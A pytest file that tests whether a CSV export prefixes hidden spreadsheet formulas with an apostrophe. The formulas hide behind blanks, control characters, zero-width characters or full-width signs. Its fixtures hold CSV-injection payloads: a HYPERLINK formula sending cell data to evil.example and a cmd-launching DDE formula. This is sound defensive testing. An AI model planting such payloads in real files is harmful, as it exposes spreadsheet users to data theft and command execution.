"""CSV exports: a formula behind leading whitespace or control characters (' =HYPERLINK(..)',
'\\n@SUM(..)', NUL or a zero-width space before the '='), or written with a full-width sign
('＝', '＋', '－', '＠', which spreadsheets in CJK locales read as '=', '+', '-', '@'), was
written as it came, where '=HYPERLINK(..)' got its apostrophe. Now it gets one too; text that
only starts with blanks stays as it is."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from sqlmodel import Session

from app.models import Deal
from app.services.queries import to_csv

HIDDEN = [
    ' =HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "   +1+1",
    "\n@SUM(1+1)*cmd|' /C calc'!A0",
    "\x00=1+1",
    "\x1f-2+3",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff@SUM(A1)",  # byte-order mark
    " \t \r\n=1",
    '\uff1dHYPERLINK("http://evil.example")',  # ＝
    "\uff0b1+1",  # ＋
    "\uff0d2+3",  # －
    "\uff20SUM(A1)",  # ＠
    " \uff1d1+1",
]
PLAIN = [
    "Acme",
    "  Acme",
    "\u3000Acme",
    "Plain = text",
    " ",
    "",
    "a=1",
    "\u200bAcme",
    "Ｍ&Ａ",  # other full-width letters are text
]


def _cells(values: list) -> list[str]:
    rows = [{"v": v} for v in values]
    parsed = list(csv.reader(io.StringIO("".join(to_csv(rows, ["v"])))))
    return [row[0] for row in parsed[1:]]


def test_a_formula_behind_blanks_or_control_characters_or_full_width_is_made_inert():
    assert _cells(HIDDEN) == ["'" + v for v in HIDDEN]


def test_text_that_only_starts_with_blanks_stays_as_it_is():
    assert _cells(PLAIN) == PLAIN


def test_as_before_formulas_tab_and_cr_get_an_apostrophe_and_numbers_stay_numbers():
    values = ["=1+1", "+1", "-1", "@A1", "\tTAB", "\rCR", -1200.5, 3, None]
    assert _cells(values) == ["'=1+1", "'+1", "'-1", "'@A1", "'\tTAB", "'\rCR", "-1200.5", "3", ""]


def test_a_list_cell_is_checked_as_written():
    assert _cells([[" =1+1", "fine"], ["fine", " =1+1"]]) == ["' =1+1 | fine", "fine |  =1+1"]


@pytest.mark.parametrize("name", [' =HYPERLINK("http://evil.example","Open")', "\uff1dSUM(A1)"])
def test_the_deal_export_writes_a_hidden_formula_as_text(client, api_key, engine, name):
    with Session(engine) as s:
        s.add(Deal(crm="hubspot", deal_id="h1", name=name, pipeline="default",
                   stage_id="qualified", stage_label="Qualified", amount=Decimal(100),
                   owner_id="o1", owner_name="\n@Olga", verdict="clear"))  # fmt: skip
        s.commit()
    r = client.get("/api/v1/deals?format=csv", headers=api_key("engineering"))
    assert r.status_code == 200, r.text
    [row] = list(csv.DictReader(io.StringIO(r.text)))
    assert (row["name"], row["owner_name"], row["amount"]) == ("'" + name, "'\n@Olga", "100.0")
